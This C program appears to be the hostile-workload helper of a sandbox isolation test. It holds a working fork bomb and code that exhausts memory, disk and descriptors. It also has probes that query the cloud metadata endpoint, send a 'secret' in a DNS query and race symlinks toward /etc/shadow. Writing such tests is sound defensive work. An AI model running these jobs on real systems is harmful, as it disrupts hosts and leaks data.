/* What the hostile jobs do, one word each: a static program that runs in any image and, with one defence missing, as
 * a plain process of the test. It says "ready" once it has got as far as it can get. Its last argument is a mark by
 * which the test finds its processes; it is not read here. Whether an attack was held is the test's to say. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* One line, whole, whoever else writes. */
static void say(const char *word) {
    char line[128];
    int len = snprintf(line, sizeof line, "%s\n", word);
    if (write(1, line, len) < 0) _exit(9);
}

static void forever(void) {
    for (;;) pause();
}

static long number(const char *text) {
    return strtol(text, NULL, 10);
}

/* === processes === */

static void bomb(void) {
    int told = 0;
    for (;;) {
        pid_t pid = fork();
        if (pid == 0) told = 1;
        if (pid < 0 && !told) {
            say("ready");
            told = 1;
        }
    }
}

static void *turn(void *unused) {
    (void)unused;
    for (volatile unsigned long n = 0;; n++) {
    }
    return NULL;
}

static void deaf(void) {
    for (int signal_ = 1; signal_ < 65; signal_++) signal(signal_, SIG_IGN);
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
}

/* Deaf to every signal that one can be deaf to, with threads that never rest. */
static int stubborn(long threads) {
    deaf();
    for (long n = 0; n < threads; n++) {
        pthread_t thread;
        pthread_attr_t small;
        pthread_attr_init(&small);
        pthread_attr_setstacksize(&small, 64 * 1024);
        if (pthread_create(&thread, &small, turn, NULL)) break;
    }
    say("ready");
    forever();
    return 0;
}

static int spin(long processes) {
    for (long n = 1; n < processes; n++)
        if (fork() == 0) turn(NULL);
    say("ready");
    turn(NULL);
    return 0;
}

/* Forked twice, in a session of its own, deaf, with nothing open: nobody's child. */
static int daemons(long processes) {
    int settled[2];
    if (pipe(settled)) return 3;
    for (long n = 0; n < processes; n++) {
        pid_t pid = fork();
        if (pid == 0) {
            setsid();
            if (fork() != 0) _exit(0);
            deaf();
            if (chdir("/") || write(settled[1], "", 1) != 1) _exit(9);
            for (int fd = 0; fd < 64; fd++) close(fd);
            forever();
        }
        if (pid > 0) waitpid(pid, NULL, 0);
    }
    for (long n = 0; n < processes; n++) {
        char byte;
        if (read(settled[0], &byte, 1) != 1) return 3;
    }
    say("ready");
    return 0;
}

/* Children that have ended and are not reaped. */
static int zombies(long processes) {
    for (long n = 0; n < processes; n++)
        if (fork() == 0) _exit(0);
    say("ready");
    forever();
    return 0;
}

/* Grandchildren whose parents are gone: their zombies are for process 1 to reap. As process 1 it reaps none. */
static int orphans(long processes) {
    for (long n = 0; n < processes; n++) {
        pid_t pid = fork();
        if (pid == 0) {
            pid_t parent = getpid();
            if (fork() == 0) {
                while (getppid() == parent) usleep(1000);
                _exit(0);
            }
            _exit(0);
        }
        if (pid > 0) waitpid(pid, NULL, 0);
    }
    say("ready");
    forever();
    return 0;
}

/* Stops what it can reach, process 1 and itself included. */
static int stops(long processes) {
    for (long n = 0; n < processes; n++)
        if (fork() == 0) {
            raise(SIGSTOP);
            forever();
        }
    kill(1, SIGSTOP);
    kill(1, SIGTERM);
    say("ready");
    kill(-1, SIGSTOP);
    raise(SIGSTOP);
    forever();
    return 0;
}

/* === memory, files, descriptors === */

static int take(long megabytes) {
    for (long n = 0; n < megabytes; n++) {
        char *piece = malloc(1 << 20);
        if (!piece) return 12;
        memset(piece, 0x5a, 1 << 20);
    }
    return 0;
}

static int memory(long megabytes) {
    int how = take(megabytes);
    say(how ? "refused" : "took it");
    return how;
}

static int memories(long processes, long megabytes) {
    long took = 0;
    for (long n = 0; n < processes; n++)
        if (fork() == 0) {
            if (take(megabytes)) _exit(12);
            say("took it");
            /* Together for a while, then over. */
            alarm(2);
            forever();
        }
    for (int how; wait(&how) > 0;) took += how != 0;
    printf("%ld ended\n", took);
    return 12;
}

/* Holds memory and does next to nothing, but never quite nothing. */
static int doze(long megabytes) {
    int how = take(megabytes);
    if (how) return how;
    say("ready");
    for (;;) usleep(50 * 1000);
}

/* One after another, each taking all it can until it is killed. */
static int hogs(long megabytes) {
    for (int told = 0;; told = 1) {
        pid_t pid = fork();
        if (pid == 0) _exit(take(megabytes));
        /* Before the first has all that it can get: where the node counts the memory itself, it may then end all of us. */
        if (!told) say("ready");
        if (pid > 0) waitpid(pid, NULL, 0);
    }
}

static int fill(char **folders, long megabytes) {
    static char block[64 * 1024];
    memset(block, 0x5a, sizeof block);
    long long all = 0;
    for (; *folders && folders[1]; folders++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/filler", *folders);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0) continue;
        for (ssize_t len; all < megabytes << 20 && (len = write(fd, block, sizeof block)) > 0;) all += len;
    }
    printf("%lld\n", all);
    fflush(stdout);
    say("ready");
    forever();
    return 0;
}

static int inodes(char **folders, long most) {
    long all = 0;
    for (; *folders && folders[1]; folders++)
        for (int n = 0; all < most; n++) {
            char path[4096];
            snprintf(path, sizeof path, "%s/i%d", *folders, n);
            int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
            if (fd < 0) break;
            close(fd);
            all++;
        }
    printf("%ld\n", all);
    fflush(stdout);
    say("ready");
    forever();
    return 0;
}

/* Attributes of files, as long as a page takes. */
static int attributes(const char *folder, long most) {
    static char value[900];
    long all = 0;
    for (int n = 0; all < most; n++) {
        char path[4096], name[32];
        snprintf(path, sizeof path, "%s/a%d", folder, n / 50);
        snprintf(name, sizeof name, "user.%d", n % 50);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0) break;
        int set = fsetxattr(fd, name, value, sizeof value, 0);
        close(fd);
        if (set < 0) break;
        all++;
    }
    printf("%ld\n", all);
    fflush(stdout);
    say("ready");
    forever();
    return 0;
}

/* Bytes that wait in connections of this process to itself, never to be read. */
static long tcp_here(long most) {
    static char block[64 * 1024];
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof at;
    int listening = socket(AF_INET, SOCK_STREAM, 0);
    if (listening < 0 || bind(listening, (struct sockaddr *)&at, len) || listen(listening, 8)) return 0;
    getsockname(listening, (struct sockaddr *)&at, &len);
    long all = 0;
    while (all < most) {
        int from = socket(AF_INET, SOCK_STREAM, 0);
        struct timeval patience = {.tv_sec = 1};
        if (from < 0) break;
        setsockopt(from, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
        if (connect(from, (struct sockaddr *)&at, len) || accept(listening, NULL, NULL) < 0) break;
        for (ssize_t sent; all < most && (sent = send(from, block, sizeof block, MSG_DONTWAIT)) > 0;) all += sent;
    }
    return all;
}

/* The same for datagrams. */
static long udp_here(long most) {
    static char block[32 * 1024];
    long all = 0;
    while (all < most) {
        struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t len = sizeof at;
        int one = socket(AF_INET, SOCK_DGRAM, 0), large = 1 << 30;
        if (one < 0 || bind(one, (struct sockaddr *)&at, len)) break;
        setsockopt(one, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
        getsockname(one, (struct sockaddr *)&at, &len);
        /* What finds no room is dropped without a word: the kernel is asked what waits. */
        for (int n = 0; n < 64; n++) sendto(one, block, sizeof block, MSG_DONTWAIT, (struct sockaddr *)&at, len);
        unsigned memory[9] = {0};
        socklen_t size = sizeof memory;
        getsockopt(one, SOL_SOCKET, 55 /* SO_MEMINFO */, memory, &size);
        if (memory[0] == 0) break;
        all += memory[0];
    }
    return all;
}

/* Several processes fill what they can; the first says how much it was together. */
static int sockets(const char *kind, long processes, long megabytes) {
    int told[2];
    if (pipe(told)) return 1;
    long all = 0, got = 0;
    for (long n = 0; n < processes; n++)
        if (fork() == 0) {
            got = (*kind == 't' ? tcp_here : udp_here)(megabytes / processes << 20);
            if (write(told[1], &got, sizeof got) < 0) _exit(9);
            forever();
        }
    for (long n = 0; n < processes && read(told[0], &got, sizeof got) == sizeof got; n++) all += got;
    printf("%ld\n", all);
    fflush(stdout);
    say("ready");
    forever();
    return 0;
}

/* One inotify instance, and as many files under watch as it is given. */
static int watches(const char *folder, long most) {
    int all = inotify_init1(0);
    long got = 0;
    while (all >= 0 && got < most) {
        char path[4096];
        snprintf(path, sizeof path, "%s/w%ld", folder, got);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0) break;
        close(fd);
        if (inotify_add_watch(all, path, IN_MODIFY) < 0) break;
        got++;
    }
    printf("%ld\n", got);
    fflush(stdout);
    say("ready");
    forever();
    return 0;
}

static long hoard_here(long most, int (*get)(void)) {
    long got = 0;
    while (got < most && get() >= 0) got++;
    return got;
}

static int another(void) {
    return dup(1);
}

static int watcher(void) {
    return inotify_init1(0);
}

/* Every process takes all that it is given; the first says how many it had. */
static int hoard(long processes, long most, int (*get)(void)) {
    for (long n = 1; n < processes; n++)
        if (fork() == 0) {
            hoard_here(most, get);
            forever();
        }
    long got = hoard_here(most, get);
    char text[32];
    snprintf(text, sizeof text, "%ld", got);
    /* Standard output is one of those it has had all along. */
    say(text);
    say("ready");
    forever();
    return 0;
}

/* Queues signals for itself that it never takes: the kernel counts them by user. */
static int signals(long most) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    union sigval nothing = {0};
    long queued = 0;
    while (queued < most && sigqueue(getpid(), SIGRTMIN + 1, nothing) == 0) queued++;
    printf("%ld\n", queued);
    fflush(stdout);
    say("ready");
    forever();
    return 0;
}

static int flood(long megabytes) {
    static char block[64 * 1024];
    memset(block, 'x', sizeof block);
    int out = 1 + (fork() == 0);
    for (long long sent = 0; !megabytes || sent < megabytes << 20;) {
        ssize_t len = write(out, block, sizeof block);
        if (len < 0) return 1;
        sent += len;
    }
    return 0;
}

/* === ways out: one line for each, REACHED or the errno === */

static void told(const char *what, int reached) {
    if (reached >= 0) printf("REACHED %s\n", what);
    else printf("no %s %s\n", what, strerrorname_np(errno));
    fflush(stdout);
}

static int dial(const char *address, int port, int type) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int fd = socket(AF_INET, type, 0);
    if (fd < 0) return -1;
    struct timeval patience = {.tv_sec = 1};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect(fd, (struct sockaddr *)&to, sizeof to)) return -1;
    return fd;
}

static int dial_abstract(const char *name) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    size_t len = strlen(name);
    memcpy(to.sun_path + 1, name, len);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return -1;
    return connect(fd, (struct sockaddr *)&to, offsetof(struct sockaddr_un, sun_path) + 1 + len) ? -1 : fd;
}

static int loopback(int port, const char *name) {
    told("loopback", dial("127.0.0.1", port, SOCK_STREAM));
    told("abstract", dial_abstract(name));
    return 0;
}

static int raw(void) {
    told("packet", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
    told("icmp", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    told("uevent", socket(AF_NETLINK, SOCK_RAW, 15));
    told("generic", socket(AF_NETLINK, SOCK_RAW, 16));
    told("route", socket(AF_NETLINK, SOCK_RAW, 0));
    return 0;
}

/* Listens on every address of its network for the next one to find. */
static int listens(int port) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(fd, (struct sockaddr *)&at, sizeof at) || listen(fd, 8)) return 1;
    say("ready");
    forever();
    return 0;
}

static int outward(int port) {
    told("address", dial("192.0.2.1", port, SOCK_STREAM));
    told("metadata", dial("169.254.169.254", 80, SOCK_STREAM));
    return 0;
}

/* A secret in a name, asked of whoever might pass it on. */
static int dns(int port) {
    static const char question[] = "\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1";
    int fd = dial("127.0.0.1", port, SOCK_DGRAM);
    told("port", fd < 0 || send(fd, question, sizeof question - 1, 0) < 0 ? -1 : fd);
    FILE *file = fopen("/etc/resolv.conf", "r");
    char line[256], server[64];
    while (file && fgets(line, sizeof line, file)) {
        if (sscanf(line, "nameserver %63s", server) != 1) continue;
        fd = dial(server, 53, SOCK_DGRAM);
        told("resolver", fd < 0 || send(fd, question, sizeof question - 1, 0) < 0 ? -1 : fd);
    }
    return 0;
}

static int uring(void) {
    char parameters[256] = {0};
    told("io_uring", (int)syscall(425, 4, parameters));
    return 0;
}

/* Requests to the disk ahead of time, of which the whole host has one number. */
static int aio(void) {
    unsigned long context = 0;
    told("aio", (int)syscall(SYS_io_setup, 128, &context));
    return 0;
}

/* With the power to change the clock the kernel looks at the tick, and finds it impossible: EINVAL. Nothing changes. */
static int tick(void) {
    struct timex how = {.modes = ADJ_TICK, .tick = 1};
    told("tick", adjtimex(&how));
    return 0;
}

static int set_clock(void) {
    struct timespec when = {.tv_sec = 1};
    struct timeval then = {.tv_sec = 1};
    told("clock_settime", clock_settime(CLOCK_REALTIME, &when));
    told("settimeofday", settimeofday(&then, NULL));
    told("rtc", open("/dev/rtc0", O_RDWR));
    return tick();
}

static int descriptors(void) {
    DIR *all = opendir("/proc/self/fd");
    if (!all) return 1;
    for (struct dirent *one; (one = readdir(all));) {
        char to[4096] = {0};
        if (one->d_name[0] == '.' || number(one->d_name) == dirfd(all)) continue;
        if (readlinkat(dirfd(all), one->d_name, to, sizeof to - 1) < 0) continue;
        printf("%s %s\n", one->d_name, to);
    }
    return 0;
}

/* === trees for whoever walks them === */

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) _exit(3);
    close(fd);
}

/* A folder and a link to elsewhere change places, for ever. */
static int swaps(const char *name, const char *elsewhere) {
    char other[64];
    snprintf(other, sizeof other, "%s.other", name);
    mkdir(name, 0755);
    if (symlink(elsewhere, other)) return 3;
    char inside[96];
    snprintf(inside, sizeof inside, "%s/secret", name);
    put(inside, "mine");
    say("ready");
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, other, 2)) return 4;
}

static int odd(const char *elsewhere) {
    put("line\nbreak", "a");
    put("not\xff\xfeutf", "b");
    put("-rf", "c");
    put("back\\slash", "d");
    put("...", "e");
    char longest[256] = {0};
    memset(longest, 'n', 255);
    put(longest, "f");
    if (link("-rf", "hard") || symlink(elsewhere, "link") || mkfifo("pipe", 0666)) return 3;
    if (symlink("../../../../../etc/passwd", "up") || symlink("/proc/self/root/etc/shadow", "magic")) return 3;
    struct sockaddr_un at = {.sun_family = AF_UNIX, .sun_path = "socket"};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd >= 0 && bind(fd, (struct sockaddr *)&at, sizeof at)) return 3;
    say("ready");
    return 0;
}

static int deep(long levels) {
    for (long n = 0; n < levels; n++)
        if (mkdir("d", 0755) || chdir("d")) return 3;
    put("bottom", "x");
    say("ready");
    return 0;
}

static int sparse(long gigabytes) {
    put("sparse", "x");
    if (truncate("sparse", (off_t)gigabytes << 30)) return 3;
    say("ready");
    return 0;
}

/* A file that is never twice of one length. */
static int breathes(void) {
    put("breath", "x");
    say("ready");
    for (;;)
        if (truncate("breath", 1 << 20) || truncate("breath", 1)) return 4;
}

int main(int argc, char **argv) {
    const char *word = argc > 1 ? argv[1] : "";
    long a = argc > 2 ? number(argv[2]) : 0, b = argc > 3 ? number(argv[3]) : 0;
#define IS(text) (!strcmp(word, text))
    if (IS("say")) return say("said"), 0;
    if (IS("bomb")) bomb();
    if (IS("stubborn")) return stubborn(a);
    if (IS("spin")) return spin(a);
    if (IS("daemons")) return daemons(a);
    if (IS("zombies")) return zombies(a);
    if (IS("orphans")) return orphans(a);
    if (IS("stops")) return stops(a);
    if (IS("memory")) return memory(a);
    if (IS("memories")) return memories(a, b);
    if (IS("doze")) return doze(a);
    if (IS("hogs")) return hogs(a);
    if (IS("fill")) return fill(argv + 3, a);
    if (IS("inodes")) return inodes(argv + 3, a);
    if (IS("descriptors-hoard")) return hoard(a, b, another);
    if (IS("inotify")) return hoard(a, b, watcher);
    if (IS("signals")) return signals(a);
    if (IS("flood")) return flood(a);
    if (IS("loopback") && argc > 3) return loopback(a, argv[3]);
    if (IS("raw")) return raw();
    if (IS("listens")) return listens(a);
    if (IS("outward")) return outward(a);
    if (IS("dns")) return dns(a);
    if (IS("uring")) return uring();
    if (IS("aio")) return aio();
    if (IS("attributes") && argc > 3) return attributes(argv[3], a);
    if (IS("tcp") || IS("udp")) return sockets(word, a, b);
    if (IS("watches") && argc > 3) return watches(argv[3], a);
    if (IS("tick")) return tick();
    if (IS("set-clock")) return set_clock();
    if (IS("descriptors")) return descriptors();
    if (IS("swaps") && argc > 3) return swaps(argv[2], argv[3]);
    if (IS("odd") && argc > 2) return odd(argv[2]);
    if (IS("deep")) return deep(a);
    if (IS("sparse")) return sparse(a);
    if (IS("breathes")) return breathes();
    say("no such attack");
    return 64;
}
